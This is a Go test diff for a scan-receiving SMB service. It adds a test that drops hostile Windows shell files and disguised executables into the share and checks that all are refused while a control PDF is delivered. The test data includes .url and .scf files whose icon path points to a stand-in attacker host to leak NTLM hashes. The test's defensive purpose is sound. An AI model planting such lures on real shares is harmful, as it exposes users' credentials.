@@ -22,7 +22,10 @@ import (
 	"github.com/cloudsoda/go-smb2"
 	"golang.org/x/sys/unix"
 
+	"github.com/scanwarden/scanwarden"
 	"github.com/scanwarden/scanwarden/receiver"
+	"github.com/scanwarden/scanwarden/smbcheck"
+	"github.com/scanwarden/scanwarden/testlab"
 )
 
 // The fallback share attacked as a host on the LAN would: floods, idle
@@ -192,7 +195,10 @@ func flood(t *testing.T, ip netip.Addr, addr string, n int) floodResult {
 
 // closedWithin says whether the server closed c within d (EOF or reset).
 func closedWithin(c net.Conn, d time.Duration) bool {
-	c.SetReadDeadline(time.Now().Add(d))
+	// a deadline already past fails the read without looking: when the
+	// subtests before took longer than the wait (a loaded machine), still
+	// look whether smbd has closed it
+	c.SetReadDeadline(time.Now().Add(max(d, 200*time.Millisecond)))
 	var b [256]byte
 	for {
 		_, err := c.Read(b[:])
@@ -524,8 +530,12 @@ func TestAttackShare(t *testing.T) {
 				continue
 			}
 			want := receiver.SafeName(name)
-			if s.File != want || s.State != receiver.Held || s.Destination != "Reception desk" {
-				t.Errorf("%q catalogued as %q (%s, %q), want %q held for Reception desk", trunc(name), s.File, s.State, s.Destination, want)
+			wantState := receiver.Held
+			if !strings.EqualFold(filepath.Ext(want), ".pdf") {
+				wantState = receiver.Refused // a PDF whose name lost its extension
+			}
+			if s.File != want || s.State != wantState || s.Destination != "Reception desk" {
+				t.Errorf("%q catalogued as %q (%s, %q), want %q %s for Reception desk", trunc(name), s.File, s.State, s.Destination, want, wantState)
 			}
 			if len(s.File) > 200 || strings.ContainsFunc(s.File, func(r rune) bool {
 				return r < 0x20 || r == 0x7f || strings.ContainsRune("/\\:*?\"<>|\u202e\u200b\u2066\u2069", r)
@@ -687,5 +697,104 @@ func TestAttackShareFillDisk(t *testing.T) {
 	ents, _ := os.ReadDir(remote.dir)
 	if len(ents) != 2 {
 		t.Errorf("%d files at the destination, want 2", len(ents))
+	}
+}
+
+// TestAttackShareDeliversOnlyScans: whoever holds the MFP account's password
+// drops Windows shell files and programs into the share — a .lnk, a .url and
+// an .scf (each makes Explorer fetch an icon from an attacker's host and
+// leak the user's NTLM hash when the folder is opened), an .exe, a PDF named
+// .exe, an EXE named .pdf. None reaches the real folder; each is listed as
+// refused with why; the control PDF beside them is delivered. With the lab,
+// the real folder is the DC's share; without, a local folder (a fake).
+func TestAttackShareDeliversOnlyScans(t *testing.T) {
+	requireSmbd(t)
+	var remote receiver.Remote
+	var target smbcheck.Target
+	var destDir string
+	if lab, _ := testlab.Load(); lab != nil {
+		sub := "rx-onlyscans-" + strconv.FormatInt(time.Now().UnixNano(), 36)
+		destDir = filepath.Join(lab.Dir, "dc", "shares", "scans", sub)
+		if err := os.Mkdir(destDir, 0o777); err != nil {
+			t.Fatal(err)
+		}
+		os.Chmod(destDir, 0o777)
+		t.Cleanup(func() { os.RemoveAll(destDir) })
+		target = smbcheck.Target{Host: lab.DCIP, Share: "scans", Path: sub, User: lab.Domain + `\alice`, Workstation: "MFP01",
+			Password: scanwarden.NewSecret(lab.Password)}
+		remote = receiver.SMBRemote{MaxFailures: 2, Timeout: 10 * time.Second}
+		t.Logf("delivering to the lab DC: //%s/scans/%s", lab.DCIP, sub)
+	} else {
+		destDir = t.TempDir()
+		remote = &dirRemote{dir: destDir}
+		t.Log("no lab: delivering into a local folder (fake destination)")
+	}
+	e := newEnv(t, opts{remote: remote, dests: staticDests{{Name: "Reception desk", Folder: "reception", Target: target}}})
+	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 4096)...)
+	lnk := append([]byte{0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, make([]byte, 200)...)
+	drops := map[string][]byte{
+		"Invoice.lnk":  lnk,
+		"portal.url":   []byte("[InternetShortcut]\r\nURL=https://intranet/\r\nIconFile=\\\\10.77.0.66\\icons\\x.ico\r\nIconIndex=1\r\n"),
+		"@Scans.scf":   []byte("[Shell]\r\nCommand=2\r\nIconFile=\\\\10.77.0.66\\icons\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"),
+		"update.exe":   exe,
+		"scan0001.exe": pdf("a PDF named .exe"),
+		"scan0002.pdf": exe,
+	}
+	control := pdf("the one real scan")
+	sh := mfpShare(t, e.cfg)
+	all := map[string][]byte{"control.pdf": control}
+	for name, data := range drops {
+		all[name] = data
+	}
+	for name, data := range all {
+		f, err := sh.Create(`reception\` + name)
+		if err != nil {
+			t.Fatalf("create %s: %v", name, err)
+		}
+		_, werr := f.Write(data)
+		if cerr := f.Close(); werr != nil || cerr != nil {
+			t.Fatalf("%s: write %v close %v", name, werr, cerr)
+		}
+	}
+	sh.Umount()
+	rows := e.waitScans(10*time.Second, "control delivered, the rest refused", func(r []receiver.Scan) bool {
+		return count(r, receiver.Delivered) == 1 && count(r, receiver.Refused) == len(drops)
+	})
+	for _, s := range rows {
+		switch {
+		case s.File == "control.pdf":
+			if s.State != receiver.Delivered {
+				t.Errorf("control.pdf %s", s.State)
+			}
+		case drops[s.File] != nil:
+			if s.State != receiver.Refused || !strings.HasPrefix(s.Error, receiver.RefusedPrefix) || s.SHA256 != sum(drops[s.File]) {
+				t.Errorf("%s: %s %q", s.File, s.State, s.Error)
+			}
+			t.Logf("%s: %s", s.File, s.Error)
+			// not even by hand
+			if err := e.r.DeliverScan(context.Background(), s.ID); err == nil || !strings.Contains(err.Error(), "refused") {
+				t.Errorf("%s: deliver by hand: %v", s.File, err)
+			}
+		default:
+			t.Errorf("unexpected row %+v", s)
+		}
+	}
+	if n, err := e.r.Deliver(context.Background(), ""); n != 0 {
+		t.Errorf("deliver everything now: %d delivered (%v)", n, err)
+	}
+	ents, err := os.ReadDir(destDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var landed []string
+	for _, d := range ents {
+		landed = append(landed, d.Name())
+	}
+	if len(landed) != 1 || landed[0] != "control.pdf" {
+		t.Fatalf("the real folder holds %q, want only control.pdf", landed)
+	}
+	st, err := e.r.Status(context.Background())
+	if err != nil || st.Counts[receiver.Refused] != len(drops) {
+		t.Errorf("status counts %v (%v), want %d refused", st.Counts, err, len(drops))
 	}
 }
